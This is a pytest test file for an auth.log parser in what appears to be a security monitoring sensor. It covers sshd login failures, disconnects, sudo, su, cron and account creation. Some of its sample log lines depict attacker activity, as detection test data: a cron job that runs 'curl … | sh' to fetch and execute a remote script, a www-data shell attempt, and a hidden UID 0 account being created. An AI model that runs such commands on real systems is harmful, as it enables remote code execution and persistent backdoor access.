"""auth.log parsing (the ``sshd`` format): sshd messages, sudo, su, cron, logind."""

from __future__ import annotations

from typing import Any

import pytest

from ronda.clock import ManualClock
from sensor.parsers import make_parser
from tests.sensor.conftest import local_ts

H = "Nov 21 10:00:00 web01 sshd[2345]: "


def parse(line: str, clock: ManualClock) -> tuple[str, dict[str, Any]]:
    event = make_parser("sshd", clock)(line)
    assert event is not None, line
    assert event.message == line
    return event.dataset, event.fields


def sshd(msg: str, clock: ManualClock) -> dict[str, Any]:
    dataset, f = parse(H + msg, clock)
    assert dataset == "sshd.auth"
    assert f["event.category"] in (["authentication"], ["session"])
    assert f["host.hostname"] == "web01"
    assert f["process.name"] == "sshd"
    assert f["process.pid"] == 2345
    assert f["ronda.syslog.message"] == msg
    return f


def subset(f: dict[str, Any], **expected: Any) -> None:
    got = {k.replace("__", "."): f.get(k.replace("__", ".")) for k in expected}
    assert got == {k.replace("__", "."): v for k, v in expected.items()}


def test_header_forms_and_timestamps(fixed_clock: ManualClock) -> None:
    p = make_parser("sshd", fixed_clock)
    classic = p("Nov 21 10:00:00 web01 sshd[123]: Connection closed by 1.2.3.4 port 22")
    assert classic is not None and classic.timestamp == local_ts(2026, 11, 21, 10, 0, 0)
    padded = p("Nov  1 09:08:07 web01 sshd[123]: x")
    assert padded is not None and padded.timestamp == local_ts(2026, 11, 1, 9, 8, 7)
    rfc5424 = p("<38>1 2026-11-21T10:00:00.123+07:00 web01 sshd 123 - - Invalid user a from "
                "1.2.3.4 port 5")  # fmt: skip
    assert rfc5424 is not None
    assert rfc5424.timestamp == pytest.approx(1795230000.123)
    assert rfc5424.fields["process.pid"] == 123
    assert rfc5424.fields["event.action"] == "ssh_invalid_user"
    iso = p("2026-11-21T10:00:00+0700 web01 sshd[123]: Invalid user a from 1.2.3.4 port 5")
    assert iso is not None and iso.timestamp == 1795230000.0
    micro = p("2026-11-21T10:00:00.250000+07:00 web01 sshd[123]: x")
    assert micro is not None and micro.timestamp == pytest.approx(1795230000.25)
    for e in (classic, rfc5424, iso, micro):
        assert e.dataset == "sshd.auth"
        assert e.fields["host.hostname"] == "web01"


def test_year_inference() -> None:
    jan = ManualClock(local_ts(2027, 1, 1, 0, 30, 0))
    p = make_parser("sshd", jan)
    dec = p("Dec 31 23:59:00 h sshd[1]: x")
    assert dec is not None and dec.timestamp == local_ts(2026, 12, 31, 23, 59, 0)
    nov = ManualClock(local_ts(2026, 11, 21, 12, 0, 0))
    p = make_parser("sshd", nov)
    soon = p("Nov 22 10:00:00 h sshd[1]: x")  # 22 h ahead: clock skew, same year
    assert soon is not None and soon.timestamp == local_ts(2026, 11, 22, 10, 0, 0)
    later = p("Nov 23 13:00:00 h sshd[1]: x")  # more than a day ahead: last year
    assert later is not None and later.timestamp == local_ts(2025, 11, 23, 13, 0, 0)
    nov.set(local_ts(2027, 2, 1, 0, 0, 0))  # the year rolls over while running
    again = p("Nov 21 10:00:00 h sshd[1]: x")
    assert again is not None and again.timestamp == local_ts(2026, 11, 21, 10, 0, 0)


def test_failed_password(fixed_clock: ManualClock) -> None:
    f = sshd("Failed password for root from 203.0.113.9 port 52210 ssh2", fixed_clock)
    subset(f, event__action="ssh_login", event__outcome="failure", user__name="root",
           source__ip="203.0.113.9", source__port=52210, system__auth__ssh__method="password",
           system__auth__ssh__event="Failed", ronda__ssh__invalid_user=False)  # fmt: skip


def test_failed_password_invalid_user_with_spaces(fixed_clock: ManualClock) -> None:
    f = sshd("Failed password for invalid user admin test from 203.0.113.9 port 1 ssh2",
             fixed_clock)  # fmt: skip
    subset(f, user__name="admin test", ronda__ssh__invalid_user=True, source__ip="203.0.113.9")


def test_username_cannot_spoof_the_source(fixed_clock: ManualClock) -> None:
    f = sshd("Failed password for invalid user x from 10.0.0.1 port 22 from 203.0.113.9 port 4"
             " ssh2", fixed_clock)  # fmt: skip
    subset(f, user__name="x from 10.0.0.1 port 22", source__ip="203.0.113.9", source__port=4)


def test_failed_publickey_none_and_keyboard_interactive(fixed_clock: ManualClock) -> None:
    f = sshd("Failed publickey for git from 2001:db8::5 port 40000 ssh2: RSA SHA256:abc",
             fixed_clock)  # fmt: skip
    subset(f, system__auth__ssh__method="publickey", source__ip="2001:db8::5",
           system__auth__ssh__signature="RSA SHA256:abc")  # fmt: skip
    f = sshd("Failed none for invalid user  from 198.51.100.1 port 33 ssh2", fixed_clock)
    subset(f, system__auth__ssh__method="none", user__name="", ronda__ssh__invalid_user=True)
    f = sshd("Failed keyboard-interactive/pam for root from 198.51.100.1 port 33 ssh2",
             fixed_clock)  # fmt: skip
    subset(f, system__auth__ssh__method="keyboard-interactive/pam", event__outcome="failure")


@pytest.mark.parametrize("method", ["password", "publickey", "keyboard-interactive/pam"])
def test_accepted(method: str, fixed_clock: ManualClock) -> None:
    f = sshd(f"Accepted {method} for deploy from 10.20.0.5 port 50000 ssh2", fixed_clock)
    subset(f, event__action="ssh_login", event__outcome="success", user__name="deploy",
           system__auth__ssh__event="Accepted", system__auth__ssh__method=method,
           source__ip="10.20.0.5", source__port=50000)  # fmt: skip


def test_invalid_user(fixed_clock: ManualClock) -> None:
    f = sshd("Invalid user oracle from 45.148.10.2 port 41234", fixed_clock)
    subset(f, event__action="ssh_invalid_user", event__outcome="failure", user__name="oracle",
           ronda__ssh__invalid_user=True, source__ip="45.148.10.2", source__port=41234,
           system__auth__ssh__event="Invalid")  # fmt: skip
    f = sshd("Invalid user  from 45.148.10.2 port 41234", fixed_clock)
    subset(f, user__name="", ronda__ssh__invalid_user=True)
    f = sshd("Invalid user ubnt admin from 45.148.10.2", fixed_clock)
    subset(f, user__name="ubnt admin", source__ip="45.148.10.2", source__port=None)


@pytest.mark.parametrize(
    ("msg", "user", "invalid", "outcome"),
    [
        ("Connection closed by invalid user admin 1.2.3.4 port 22 [preauth]", "admin", True,
         "failure"),
        ("Connection closed by authenticating user root 1.2.3.4 port 22 [preauth]", "root", None,
         "failure"),
        ("Disconnected from invalid user a b 1.2.3.4 port 22 [preauth]", "a b", True, "failure"),
        ("Disconnected from authenticating user root 1.2.3.4 port 22 [preauth]", "root", None,
         "failure"),
        ("Disconnected from user deploy 1.2.3.4 port 22", "deploy", None, None),
        ("Connection closed by 1.2.3.4 port 22 [preauth]", None, None, None),
        ("Connection reset by 1.2.3.4 port 22 [preauth]", None, None, None),
    ],
)  # fmt: skip
def test_disconnects(msg: str, user: str | None, invalid: bool | None, outcome: str | None,
                     fixed_clock: ManualClock) -> None:  # fmt: skip
    f = sshd(msg, fixed_clock)
    subset(f, event__action="ssh_disconnect", user__name=user, ronda__ssh__invalid_user=invalid,
           event__outcome=outcome, source__ip="1.2.3.4", source__port=22)  # fmt: skip
    assert f.get("ronda.ssh.preauth") == (True if msg.endswith("[preauth]") else None)


def test_received_disconnect(fixed_clock: ManualClock) -> None:
    f = sshd("Received disconnect from 203.0.113.9 port 52210:11: Bye Bye [preauth]",
             fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_disconnect", source__ip="203.0.113.9", source__port=52210,
           ronda__ssh__disconnect_code=11, ronda__ssh__reason="Bye Bye")  # fmt: skip


def test_max_auth_exceeded(fixed_clock: ManualClock) -> None:
    f = sshd("error: maximum authentication attempts exceeded for invalid user admin from "
             "203.0.113.9 port 2200 ssh2 [preauth]", fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_max_auth_exceeded", event__outcome="failure", user__name="admin",
           ronda__ssh__invalid_user=True, source__ip="203.0.113.9", source__port=2200)  # fmt: skip
    f = sshd("error: maximum authentication attempts exceeded for root from 203.0.113.9 port 2200"
             " ssh2 [preauth]", fixed_clock)  # fmt: skip
    subset(f, user__name="root", ronda__ssh__invalid_user=None)
    f = sshd("Disconnecting authenticating user root 203.0.113.9 port 2200: Too many "
             "authentication failures [preauth]", fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_max_auth_exceeded", user__name="root", source__port=2200)


def test_no_identification_and_banner(fixed_clock: ManualClock) -> None:
    f = sshd("Did not receive identification string from 198.51.100.7 port 60000", fixed_clock)
    subset(f, event__action="ssh_no_identification", event__outcome="failure",
           source__ip="198.51.100.7", source__port=60000)  # fmt: skip
    f = sshd("banner exchange: Connection from 198.51.100.7 port 60001: invalid format",
             fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_bad_banner", source__ip="198.51.100.7", source__port=60001,
           ronda__ssh__reason="invalid format")  # fmt: skip
    f = sshd("error: kex_exchange_identification: Connection closed by remote host", fixed_clock)
    subset(f, event__action="ssh_bad_banner", event__outcome="failure")


def test_pam_lines(fixed_clock: ManualClock) -> None:
    f = sshd("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
             "rhost=203.0.113.9  user=root", fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_auth_failure", event__outcome="failure", user__name="root",
           source__ip="203.0.113.9")  # fmt: skip
    f = sshd("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
             "rhost=203.0.113.9", fixed_clock)  # fmt: skip
    assert "user.name" not in f
    f = sshd("PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
             "rhost=203.0.113.9  user=root", fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_auth_failure", ronda__auth__failures=5, user__name="root",
           source__ip="203.0.113.9")  # fmt: skip
    f = sshd("pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",
             fixed_clock)  # fmt: skip
    subset(f, event__action="session_opened", user__name="deploy", event__category=["session"])


def test_connection_and_other_messages(fixed_clock: ManualClock) -> None:
    f = sshd("Connection from 203.0.113.9 port 52210 on 10.0.0.2 port 22 rdomain \"\"",
             fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_connection", source__ip="203.0.113.9", source__port=52210,
           destination__ip="10.0.0.2", destination__port=22)  # fmt: skip
    f = sshd("Unable to negotiate with 203.0.113.9 port 5: no matching key exchange method found."
             " Their offer: diffie-hellman-group1-sha1 [preauth]", fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_negotiation_failure", source__port=5)
    f = sshd("User bob from 203.0.113.9 not allowed because not listed in AllowUsers",
             fixed_clock)  # fmt: skip
    subset(f, event__action="ssh_user_not_allowed", user__name="bob", source__ip="203.0.113.9")
    f = sshd("Server listening on 0.0.0.0 port 22.", fixed_clock)
    subset(f, event__action="ssh_server_listening", destination__port=22)
    f = sshd("Received signal 15; terminating.", fixed_clock)
    assert "event.action" not in f and "source.ip" not in f
    f = sshd("error: kex_protocol_error: type 30 seq 1 from 198.51.100.3 port 999", fixed_clock)
    subset(f, source__ip="198.51.100.3", source__port=999)


def test_repeated_message(fixed_clock: ManualClock) -> None:
    f = sshd("message repeated 4 times: [ Failed password for root from 203.0.113.9 port 22 "
             "ssh2]", fixed_clock)  # fmt: skip
    subset(f, ronda__repeat_count=4, event__action="ssh_login", user__name="root",
           source__port=22)  # fmt: skip


def test_sshd_session_program_name(fixed_clock: ManualClock) -> None:
    ds, f = parse("Nov 21 10:00:00 h sshd-session[9]: Invalid user x from 1.2.3.4 port 5",
                  fixed_clock)  # fmt: skip
    assert ds == "sshd.auth" and f["event.action"] == "ssh_invalid_user"


def test_sudo_command(fixed_clock: ManualClock) -> None:
    ds, f = parse("Nov 21 10:00:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; "
                  "USER=root ; COMMAND=/usr/bin/systemctl restart nginx", fixed_clock)  # fmt: skip
    assert ds == "system.auth"
    subset(f, event__action="sudo_command", event__outcome="success", user__name="alice",
           user__effective__name="root", process__command_line="/usr/bin/systemctl restart nginx",
           process__working_directory="/home/alice", host__hostname="web01",
           process__name="sudo")  # fmt: skip


def test_sudo_failures(fixed_clock: ManualClock) -> None:
    ds, f = parse("Nov 21 10:00:00 web01 sudo: pam_unix(sudo:auth): authentication failure; "
                  "logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
                  fixed_clock)  # fmt: skip
    assert ds == "system.auth"
    subset(f, event__action="sudo_auth_failure", event__outcome="failure", user__name="alice")
    ds, f = parse("Nov 21 10:00:00 web01 sudo:    alice : 3 incorrect password attempts ; "
                  "TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
                  fixed_clock)  # fmt: skip
    subset(f, event__action="sudo_auth_failure", event__outcome="failure", user__name="alice",
           ronda__auth__failures=3, user__effective__name="root",
           process__command_line="/bin/bash")  # fmt: skip
    ds, f = parse("Nov 21 10:00:00 web01 sudo:      www-data : user NOT in sudoers ; TTY=unknown"
                  " ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh -c id", fixed_clock)  # fmt: skip
    subset(f, event__action="sudo_not_in_sudoers", event__outcome="failure",
           user__name="www-data", process__command_line="/bin/sh -c id")  # fmt: skip


def test_su_cron_logind_useradd(fixed_clock: ManualClock) -> None:
    _, f = parse("Nov 21 10:00:00 h su[77]: (to root) alice on pts/1", fixed_clock)
    subset(f, event__action="su_success", user__name="alice", user__effective__name="root")
    _, f = parse("Nov 21 10:00:00 h su[77]: FAILED SU (to root) mallory on pts/1", fixed_clock)
    subset(f, event__action="su_failure", event__outcome="failure", user__name="mallory")
    _, f = parse("Nov 21 10:00:00 h su[77]: pam_unix(su:auth): authentication failure; "
                 "logname=bob uid=1001 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=root",
                 fixed_clock)  # fmt: skip
    subset(f, event__action="su_auth_failure", user__name="root")
    ds, f = parse("Nov 21 10:00:00 h CRON[501]: pam_unix(cron:session): session opened for user "
                  "root(uid=0) by (uid=0)", fixed_clock)  # fmt: skip
    assert ds == "system.auth"
    subset(f, event__action="session_opened", user__name="root")
    _, f = parse("Nov 21 10:00:00 h CRON[501]: (root) CMD (curl -s http://x/a.sh | sh)",
                 fixed_clock)  # fmt: skip
    subset(f, event__action="cron_command", process__command_line="curl -s http://x/a.sh | sh")
    _, f = parse("Nov 21 10:00:00 h systemd-logind[600]: New session 42 of user alice.",
                 fixed_clock)  # fmt: skip
    subset(f, event__action="session_created", user__name="alice")
    _, f = parse("Nov 21 10:00:00 h useradd[9]: new user: name=sysupd, UID=0, GID=0, "
                 "home=/root, shell=/bin/bash, from=/dev/pts/0", fixed_clock)  # fmt: skip
    subset(f, event__action="user_created", user__target__name="sysupd", user__target__id="0")
    ds, f = parse("Nov 21 10:00:00 h polkitd[9]: Registered Authentication Agent", fixed_clock)
    assert ds == "system.auth" and "event.action" not in f


@pytest.mark.parametrize(
    "line",
    ["", "sshd[1]: Failed password for root from 1.2.3.4 port 22 ssh2",
     "Foo 21 10:00:00 h sshd[1]: x", "Nov 21 25:00:00 h sshd[1]: x",
     "2026-13-45T10:00:00Z h sshd[1]: x", "<999>1 2026-11-21T10:00:00Z h sshd 1 - - x",
     '1.2.3.4 - - [21/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 1'],
)  # fmt: skip
def test_unparseable_header_is_none(line: str, fixed_clock: ManualClock) -> None:
    assert make_parser("sshd", fixed_clock)(line) is None
